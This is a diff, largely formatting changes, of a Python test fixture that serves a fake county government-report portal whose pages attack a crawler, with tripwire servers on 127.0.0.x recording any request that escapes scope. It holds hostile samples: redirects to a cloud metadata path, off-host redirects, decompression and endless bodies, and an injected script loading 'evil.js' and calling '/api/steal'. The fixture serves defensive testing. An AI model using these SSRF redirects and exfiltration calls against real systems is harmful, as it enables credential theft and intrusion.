@@ -16,6 +16,7 @@ pages do what real broken or hostile servers do to a crawler:
 
 ``Tripwire`` is an HTTP server that records every request it gets; a test asserts it got none.
 """
+
 from __future__ import annotations
 
 import gzip
@@ -35,8 +36,13 @@ class _Quiet(BaseHTTPRequestHandler):
     def log_message(self, *args) -> None:
         pass
 
-    def send(self, status: int, body: bytes, ctype: str = "text/html; charset=utf-8",
-             headers: tuple[tuple[str, str], ...] = ()) -> None:
+    def send(
+        self,
+        status: int,
+        body: bytes,
+        ctype: str = "text/html; charset=utf-8",
+        headers: tuple[tuple[str, str], ...] = (),
+    ) -> None:
         self.send_response(status)
         self.send_header("Content-Type", ctype)
         for name, value in headers:
@@ -57,7 +63,9 @@ class Tripwire:
         class Handler(_Quiet):
             def _hit(self) -> None:
                 hits.append((self.command, self.headers.get("Host", ""), self.path))
-                self.send(200, b"<html><title>tripwire</title><body>you should not be here</body></html>")
+                self.send(
+                    200, b"<html><title>tripwire</title><body>you should not be here</body></html>"
+                )
 
             do_GET = do_POST = do_HEAD = _hit
 
@@ -72,15 +80,22 @@ class Tripwire:
 
 
 def _page(title: str, body: str, head: str = "") -> str:
-    return (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
-            f"<body>{body}</body></html>")
+    return (
+        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
+        f"<body>{body}</body></html>"
+    )
 
 
 def _report(year: int, extra: str = "") -> str:
     title = f"{COUNTY}{year}年政府信息公开工作年度报告"
-    rows = "".join(f"<tr><td>{label}</td><td>{n}</td></tr>"
-                   for label, n in (("本年新收政府信息公开申请数量", 12), ("本年度办理结果总计", 12)))
-    return _page(title, f'<h1>{title}</h1><div id="zoom"><p>一、总体情况</p><table>{rows}</table>{extra}</div>')
+    rows = "".join(
+        f"<tr><td>{label}</td><td>{n}</td></tr>"
+        for label, n in (("本年新收政府信息公开申请数量", 12), ("本年度办理结果总计", 12))
+    )
+    return _page(
+        title,
+        f'<h1>{title}</h1><div id="zoom"><p>一、总体情况</p><table>{rows}</table>{extra}</div>',
+    )
 
 
 def _li(path: str, title: str) -> str:
@@ -91,8 +106,8 @@ def _li(path: str, title: str) -> str:
 class HostilePortal:
     """The portal; ``faults`` picks which hostile pages its 年报 column lists."""
 
-    trip: Tripwire            # another port of 127.0.0.1
-    trip2: Tripwire           # 127.0.0.2, where the metadata path is asked for
+    trip: Tripwire  # another port of 127.0.0.1
+    trip2: Tripwire  # 127.0.0.2, where the metadata path is asked for
     faults: tuple[str, ...] = ("redirects", "endpoint", "counts", "browser")
     big_page_bytes: int = 50 * 1024 * 1024
     requests: list[str] = field(default_factory=list)
@@ -123,16 +138,20 @@ class HostilePortal:
     def listing(self) -> list[tuple[str, str]]:
         entries = [("/nb/2023.html", f"{COUNTY}2023年政府信息公开工作年度报告")]
         if "redirects" in self.faults:
-            entries += [("/nb/2022.html", f"{COUNTY}2022年政府信息公开工作年度报告"),
-                        ("/nb/2021.html", f"{COUNTY}2021年政府信息公开工作年度报告"),
-                        ("/nb/2020.html", f"{COUNTY}2020年政府信息公开工作年度报告")]
+            entries += [
+                ("/nb/2022.html", f"{COUNTY}2022年政府信息公开工作年度报告"),
+                ("/nb/2021.html", f"{COUNTY}2021年政府信息公开工作年度报告"),
+                ("/nb/2020.html", f"{COUNTY}2020年政府信息公开工作年度报告"),
+            ]
         if "big" in self.faults:
             entries.append(("/nb/big.html", f"{COUNTY}2019年政府信息公开工作年度报告"))
         if "bodies" in self.faults:
-            entries += [("/nb/bomb.html", f"{COUNTY}2018年政府信息公开工作年度报告"),
-                        ("/nb/slow.html", f"{COUNTY}2017年政府信息公开工作年度报告"),
-                        ("/nb/endless.html", f"{COUNTY}2016年政府信息公开工作年度报告"),
-                        ("/nb/badenc.html", f"{COUNTY}2015年政府信息公开工作年度报告")]
+            entries += [
+                ("/nb/bomb.html", f"{COUNTY}2018年政府信息公开工作年度报告"),
+                ("/nb/slow.html", f"{COUNTY}2017年政府信息公开工作年度报告"),
+                ("/nb/endless.html", f"{COUNTY}2016年政府信息公开工作年度报告"),
+                ("/nb/badenc.html", f"{COUNTY}2015年政府信息公开工作年度报告"),
+            ]
         return entries
 
     def answer(self, h: _Quiet) -> None:
@@ -152,7 +171,10 @@ class HostilePortal:
             items = "".join(_li(p, t) for p, t in self.listing())
             return h.send(200, _page("政府信息公开年报", f'<ul class="list">{items}</ul>').encode())
         if path == "/nb/2023.html":
-            return h.send(200, _report(2023, '<p>附件：<a href="/files/nb2023.pdf">2023年报.pdf</a></p>').encode())
+            return h.send(
+                200,
+                _report(2023, '<p>附件：<a href="/files/nb2023.pdf">2023年报.pdf</a></p>').encode(),
+            )
         if path == "/files/nb2023.pdf":  # the attachment: off to the metadata service
             return h.send(302, b"", headers=(("Location", f"{self.trip2.url}/latest/meta-data/"),))
         if path == "/nb/2022.html":  # a report link redirecting to another port
@@ -160,25 +182,43 @@ class HostilePortal:
         if path == "/nb/2021.html":  # a redirect chain whose second hop leaves
             return h.send(301, b"", headers=(("Location", "/nb/2021-moved.html"),))
         if path == "/nb/2021-moved.html":
-            return h.send(302, b"", headers=(("Location", f"http://127.0.0.2:{self.trip2.port}/nb/2021.html"),))
+            return h.send(
+                302,
+                b"",
+                headers=(("Location", f"http://127.0.0.2:{self.trip2.port}/nb/2021.html"),),
+            )
         if path == "/nb/2020.html":  # a meta refresh to another host
             head = f'<meta http-equiv="refresh" content="0;url={self.trip.url}/nb/2020.html">'
             return h.send(200, _page("跳转", "", head).encode())
         if path == "/jp/":  # a JPaaS shell whose list API is on another port
-            return h.send(200, _page("政府信息公开年报", _jpaas(f"{self.trip.url}/api/list", 3, 15)).encode())
+            return h.send(
+                200, _page("政府信息公开年报", _jpaas(f"{self.trip.url}/api/list", 3, 15)).encode()
+            )
         if path == "/jpc/":  # a JPaaS shell declaring 100,000 records, one per page
             return h.send(200, _page("政府信息公开年报", _jpaas("/api/list", 100000, 1)).encode())
         if path.startswith("/api/list"):
             return h.send(200, b'{"data":{"html":""}}', "application/json")
         if path == "/trs/":  # a TRS pager of 10^30 pages
-            return h.send(200, _page("政府信息公开年报", '<ul class="list"></ul><script>createPageHTML('
-                                     + "1" + "0" * 30 + ', 0, "index", "html");</script>').encode())
+            return h.send(
+                200,
+                _page(
+                    "政府信息公开年报",
+                    '<ul class="list"></ul><script>createPageHTML('
+                    + "1"
+                    + "0" * 30
+                    + ', 0, "index", "html");</script>',
+                ).encode(),
+            )
         if path.startswith("/trs/index_"):
             return h.send(404, b"not found")
         if path == "/js/":
-            return h.send(200, _page("政府信息公开年报", '<ul id="list"></ul>' + self._script()).encode())
+            return h.send(
+                200, _page("政府信息公开年报", '<ul id="list"></ul>' + self._script()).encode()
+            )
         if path == "/js/data":
-            return h.send(200, _li("/nb/2023.html", f"{COUNTY}2023年政府信息公开工作年度报告").encode())
+            return h.send(
+                200, _li("/nb/2023.html", f"{COUNTY}2023年政府信息公开工作年度报告").encode()
+            )
         if path == "/js/hop":  # in scope, then out
             return h.send(302, b"", headers=(("Location", f"{self.trip.url}/js/hop"),))
         if path == "/nb/big.html":
@@ -190,21 +230,26 @@ class HostilePortal:
         if path == "/nb/endless.html":
             return _endless(h)
         if path == "/nb/badenc.html":  # declared UTF-8, neither UTF-8 nor GBK, control bytes in it
-            body = _report(2015).encode("utf-8").replace(
-                "总体情况".encode(), b"\x81\x30\xfe\xff\x00\x07\x1b\xc0\xaf\xed\xa0\x80")
+            body = (
+                _report(2015)
+                .encode("utf-8")
+                .replace("总体情况".encode(), b"\x81\x30\xfe\xff\x00\x07\x1b\xc0\xaf\xed\xa0\x80")
+            )
             return h.send(200, body)
         return h.send(404, _page("404", "页面不存在").encode())
 
     def _script(self) -> str:
         other, meta = self.trip.url, self.trip2.url
-        return ("<script>"
-                f"var i=new Image();i.src='{meta}/latest/meta-data/x.png';"
-                f"var s=document.createElement('script');s.src='{other}/evil.js';document.head.appendChild(s);"
-                f"fetch('{other}/api/steal',{{mode:'no-cors'}}).catch(function(){{}});"
-                "fetch('/js/hop').catch(function(){});"
-                "fetch('/js/data').then(function(r){return r.text()}).then(function(t){"
-                "document.getElementById('list').innerHTML=t;});"
-                "</script>")
+        return (
+            "<script>"
+            f"var i=new Image();i.src='{meta}/latest/meta-data/x.png';"
+            f"var s=document.createElement('script');s.src='{other}/evil.js';document.head.appendChild(s);"
+            f"fetch('{other}/api/steal',{{mode:'no-cors'}}).catch(function(){{}});"
+            "fetch('/js/hop').catch(function(){});"
+            "fetch('/js/data').then(function(r){return r.text()}).then(function(t){"
+            "document.getElementById('list').innerHTML=t;});"
+            "</script>"
+        )
 
     def big_page(self) -> bytes:
         """A report page of ``big_page_bytes`` bytes: the report, then an endless table."""
@@ -215,8 +260,10 @@ class HostilePortal:
 
 
 def _jpaas(unit_url: str, count: int, rows: int) -> str:
-    return (f'<div id="pagination" unitUrl="{unit_url}" count="{count}" rows="{rows}" '
-            "queryData=\"{'webId':'1','tplSetId':'2','pageId':'3','tagId':'4'}\"></div>")
+    return (
+        f'<div id="pagination" unitUrl="{unit_url}" count="{count}" rows="{rows}" '
+        "queryData=\"{'webId':'1','tplSetId':'2','pageId':'3','tagId':'4'}\"></div>"
+    )
 
 
 _BOMB: bytes | None = None
